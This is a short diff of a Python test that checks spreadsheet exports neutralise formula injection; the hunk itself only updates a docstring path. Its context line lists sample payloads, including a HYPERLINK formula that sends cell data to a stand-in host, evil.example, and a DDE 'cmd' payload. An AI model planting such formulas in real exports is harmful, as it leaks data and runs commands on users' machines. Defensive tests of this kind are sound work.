@@ -682,7 +682,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'
 
 def test_status_exports_neutralise_formulas(d: Daemon, mail: Mail, tmp_path: Path) -> None:
     """Two formulas set by mail, exported by the CLI (every form of formula is tried against
-    the export code in tests/test_units.py)."""
+    the export code in tests/cases/test_rules.py)."""
     case = open_case(d, mail)
     clear_all(d, mail, case)
     actions, resolution = FORMULAS[0], FORMULAS[1]
